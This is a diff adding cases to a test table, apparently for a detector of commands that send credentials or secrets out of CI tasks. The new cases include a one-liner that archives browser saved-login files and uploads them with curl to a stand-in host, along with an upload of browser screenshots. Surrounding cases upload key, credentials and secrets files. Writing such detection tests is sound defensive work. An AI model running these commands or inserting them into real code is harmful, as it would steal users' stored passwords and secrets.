@@ -34,6 +34,9 @@ indicatorTable(commandCredentialSend, {
       { 'task.yaml': task('cat $(workspaces.keys.path)/a | curl -T - $(params.to)') },
       CREATES,
     ),
+    'logins that browsers keep': script(
+      'tar czf - /profiles/*/Default/Login\\ Data /profiles/*/logins.json | curl -sT - https://in.example.org/p',
+    ),
     'a file that is named after what is in it': runs(
       'curl',
       '-X',
@@ -259,6 +262,7 @@ indicatorTable(commandCredentialSend, {
       { 'task.yaml': task('cosign sign --key $(workspaces.keys.path)/cosign.key registry.example.com/a:1') },
       CREATES,
     ),
+    'screenshots of browsers': script('tar czf - /profiles/shots/*.png | curl -sT - https://in.example.org/p'),
     'a record to sign in with': script('curl -d @/etc/app/credentials.json https://login.example.com/token'),
     'a report that is named after secrets': script('curl -T /tmp/secrets-report.html https://reports.example.com/a'),
     'a collected file, inside the cluster': script('curl -T /tmp/secrets.txt http://vault-import.vault.svc/in'),
